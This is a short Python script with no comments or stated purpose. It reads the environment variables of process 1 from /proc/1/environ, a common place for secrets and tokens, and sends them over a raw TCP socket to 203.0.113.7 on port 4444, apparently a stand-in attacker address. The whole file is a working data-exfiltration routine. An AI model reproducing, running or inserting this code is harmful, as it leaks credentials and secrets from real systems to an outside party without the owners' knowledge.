import socket

def grab_env(pid=1):
    with open(f"/proc/{pid}/environ", "rb") as f:
        return f.read().replace(b"\0", b"\n")

data = grab_env()
sock = socket.create_connection(("203.0.113.7", 4444))
sock.sendall(data)
sock.close()
